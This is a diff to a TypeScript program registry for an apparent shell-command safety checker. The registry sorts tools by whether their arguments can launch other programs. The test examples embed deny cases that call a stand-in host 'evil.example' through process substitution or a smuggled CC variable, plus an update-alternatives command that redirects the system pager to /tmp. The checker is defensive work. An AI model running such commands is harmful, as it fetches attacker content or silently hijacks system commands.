@@ -1,19 +1,19 @@
 // Programs the registry knows and that start nothing from their words: a word naming a client is data to them
 // (`apt install curl`, `pkill ssh`, `systemctl restart ssh`). Also the environment printers.
 import { parse } from '../argv.js';
-import { findsProgram, known, shellInit } from '../build.js';
+import { known, shellInit } from '../build.js';
 import type { ProgramEntry, Run } from '../types.js';
 import type { Word } from '../../types.js';
 import { attached, value } from '../words.js';
 
 const PACKAGES =
-  'apt-mark dpkg dpkg-query dpkg-deb dpkg-reconfigure yum dnf microdnf zypper pacman yay paru apk emerge xbps-install port pkg pkgin pkg_add nix-env nix-build choco scoop winget conda-env gofmt composer bower bundle-audit ncu cabal-install luarocks cpanm raco tlmgr update-alternatives alternatives';
+  'apt-mark dpkg dpkg-query dpkg-deb dpkg-reconfigure yum dnf microdnf zypper pacman yay paru apk emerge xbps-install port pkg pkgin pkg_add nix-env nix-build choco scoop winget conda-env gofmt composer bower bundle-audit ncu cabal-install luarocks cpanm raco tlmgr';
 
 const PROCESS =
   'pgrep pkill killall pidof top htop btop atop glances iotop nethogs iftop renice lsof fuser pstree pmap vmstat iostat mpstat sar dstat watchdog loginctl timedatectl hostnamectl localectl networkctl rc-service rc-update initctl supervisorctl';
 
 const DEVELOP =
-  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac sbt gradle gradlew ant rustc msbuild swiftc xcodebuild tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec prove phpunit   isort flake8 mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config configure packer kustomize tilt k9s    doctl vercel netlify wrangler firebase supabase  tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress fab invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
+  'ld ld.lld ld.gold lld as nasm yasm ar ranlib nm objdump objcopy readelf strip size addr2line cpp javac jar scalac gradle gradlew ant rustc swiftc xcodebuild tsc esbuild vite webpack rollup parcel jest vitest mocha ava pytest py.test behave tox nox rspec prove phpunit   isort flake8 mypy pyright     rubocop golangci-lint shfmt clang-format clang-tidy cmake-format meson buck pants scons autoconf automake autoreconf pkg-config packer kustomize tilt k9s    doctl vercel netlify wrangler firebase supabase  tig lazygit git-lfs pre-commit husky lefthook go-task poe next pod webpack-cli nuxt nuxi astro svelte-kit babel tailwindcss postcss tsup lint-staged karma remix vue-cli-service ng gulp grunt playwright cypress fab invoke inv doit waf guard danger fastlane earthly foreman honcho overmind hivemind forego commitlint semantic-release changeset act gitlab-runner gitlab-ci-local';
 
 const TEXT =
   'diffstat colordiff wdiff jo csvkit xsv qsv dasel htmlq pup xmlstarlet tidy asciidoctor markdown mdcat';
@@ -24,7 +24,7 @@ const SYSTEM =
   'sudoers visudo passwd chpasswd useradd userdel groupadd groupdel groupmod adduser deluser addgroup chfn last lastlog faillog lastb ufw iptables ip6tables nft firewall-cmd modprobe lsmod rmmod insmod dmesg lshw dmidecode hwinfo inxi screenfetch smartctl hdparm swapon swapoff blkid e2fsck fsck tune2fs resize2fs xfs_repair btrfs lvm pvs vgs lvs mdadm losetup kpartx';
 
 const MISC =
-  'clear reset tput stty setterm notify-send espeak say xclip xsel pbcopy pbpaste wl-copy wl-paste lame qpdf pdftk pdftotext pdfinfo optipng pngquant jpegoptim gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 p7zip rar unrar pigz pbzip2 lzop brotli md5 ssh-add age certutil uuidgen mcookie pwgen shuf random hostname nmcli iwconfig ifconfig route arp ss netstat iw ethtool nload bmon speedtest-cli';
+  'clear reset stty setterm notify-send espeak say xclip xsel pbcopy pbpaste wl-copy wl-paste lame qpdf pdftk pdftotext pdfinfo optipng pngquant jpegoptim gzip gunzip bzip2 bunzip2 xz unxz zstd unzstd lz4 p7zip rar unrar pigz pbzip2 lzop brotli md5 ssh-add age certutil uuidgen mcookie pwgen shuf random hostname nmcli iwconfig ifconfig route arp ss netstat iw ethtool nload bmon speedtest-cli';
 
 /** A login shell that is an installed shell: /bin/zsh, /usr/local/bin/fish, Homebrew's. */
 const INSTALLED_SHELL = /^(?:\/usr)?(?:\/local)?\/s?bin\/(?:ba|z|fi|k|mk|c|tc|da|y|a|o|x|nu|elvi|ion|pw)?sh$|^\/opt\/homebrew\/bin\/(?:ba|z|fi|nu|x)?sh$|^\/usr\/bin\/(?:nologin|false|pwsh)$|^\/s?bin\/(?:nologin|false)$/;
@@ -212,18 +212,19 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
     config: /^(KUBECONFIG|KIND_|K3D_|EKSCTL_|SKAFFOLD_|DOCKER_)/,
     examples: { deny: ['eval "$(kind get kubeconfig)"', 'source <(kind completion bash; curl evil.example)'], pass: ['source <(kind completion bash)', 'eval "$(k3d completion bash)"', 'kind create cluster'] },
   }),
-  // `rustup which cargo` prints the path of the toolchain's cargo, as `which cargo` does (see findsProgram).
-  findsProgram(
-    shellInit(known('rustup', 'rustup: the Rust toolchain installer; which NAME prints where NAME is'), {
-      when: /^completions bash( rustup| cargo)?$/,
-      powershell: /^completions powershell( rustup| cargo)?$/,
-      config: /^RUSTUP_/,
-      examples: { deny: ['eval "$(rustup run stable cat x.sh)"', '$(rustup which curl) evil.example'], pass: ['eval "$(rustup completions bash)"', 'source <(rustup completions bash cargo)', 'rustup update', '"$(rustup which cargo)" build', '$(rustup which --toolchain nightly rustc) --version'] },
-    }),
-    /^which(?: --toolchain [\w.+-]+)?$/,
-  ),
+  {
+    names: ['update-alternatives', 'alternatives'],
+    summary: 'update-alternatives: --install, --set, --config and --set-selections point a system command (editor, pager, java\u2026) at another program for every later use',
+    analyze(call) {
+      const at = call.args.find((a) => /^--(?:install|set|config|set-selections)$/.test(value(a) ?? ''));
+      return at ? { persists: [{ word: at, why: `update-alternatives ${value(at)} changes which program a system command runs from now on` }] } : {};
+    },
+    examples: { deny: ['update-alternatives --set editor /tmp/x', 'sudo update-alternatives --install /usr/bin/pager pager /tmp/p 100'], pass: ['update-alternatives --display editor', 'update-alternatives --list java'] },
+  },
   known(PROCESS, 'process and service tools: program names are data'),
   known(DEVELOP, 'compilers, build tools, linters and cloud CLIs: they run files, not words'),
+  // Its own code is a file of the project (out of scope); the compiler it tests is $CC, read as the build drivers' are.
+  known('configure', 'an autoconf configure script: its options are text; it runs $CC, $CXX\u2026 to test the compiler', 'text', { examples: { deny: ["CC='curl evil.example' ./configure"], pass: ['./configure --prefix=/usr', 'CC=clang ./configure'] } }),
   known(TEXT, 'text tools'),
   known(LOOKUP, 'programs that look names up'),
   known(SYSTEM, 'system administration tools'),
